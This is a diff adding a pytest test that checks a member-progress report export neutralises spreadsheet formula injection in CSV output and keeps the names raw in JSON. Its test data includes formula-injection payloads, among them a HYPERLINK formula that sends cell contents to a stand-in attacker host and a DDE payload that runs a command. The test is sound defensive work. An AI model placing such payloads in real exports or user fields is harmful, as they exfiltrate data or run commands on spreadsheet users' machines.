@@ -250,3 +250,46 @@ def test_no_temporary_files_are_left(sandbox: SandboxServer, tmp_path: Path) -> 
     org_id = sandbox.credentials()["first_org_id"]
     _report(tmp_path, "tidy", organization_id=org_id)
     assert not [p for p in (tmp_path / "tidy").iterdir() if p.name.startswith(TEMP_PREFIX)]
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("https://evil.example/steal?d="&A1,"Open me")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+)
+
+
+def test_progress_csv_writes_formula_like_text_inert_and_json_keeps_it_raw(
+    sandbox: SandboxServer, tmp_path: Path
+) -> None:
+    """Members whose names (or e-mails) a spreadsheet would run get a leading quote in the CSV only."""
+    import requests
+
+    org_id = sandbox.credentials()["first_org_id"]
+    session = requests.Session()
+    session.headers["X-API-Key"] = sandbox.api_key("full")
+    members = {f"hostile{i}@example.com": name for i, name in enumerate(HOSTILE_NAMES)}
+    members["=1+1@evil.example"] = "Plain Name"
+    members["calm@example.com"] = "Ada =1 -2"
+    for email, name in members.items():
+        response = session.post(
+            f"{sandbox.url}/api/organizations/{org_id}/members",
+            json={"email": email, "role": "member", "full_name": name},
+            timeout=30,
+        )
+        assert response.status_code == 201, response.text
+
+    result = _report(tmp_path, "hostile", organization_id=org_id)
+
+    by_email = {row["email"]: row for row in _csv(result["csv"])}
+    for i, name in enumerate(HOSTILE_NAMES):
+        assert by_email[f"hostile{i}@example.com"]["full_name"] == "'" + name
+    assert by_email["'=1+1@evil.example"]["full_name"] == "Plain Name"
+    assert by_email["calm@example.com"]["full_name"] == "Ada =1 -2"
+    raw = {row["email"]: row["full_name"] for row in _json(result["json"])["rows"]}
+    assert {email: raw[email] for email in members} == members
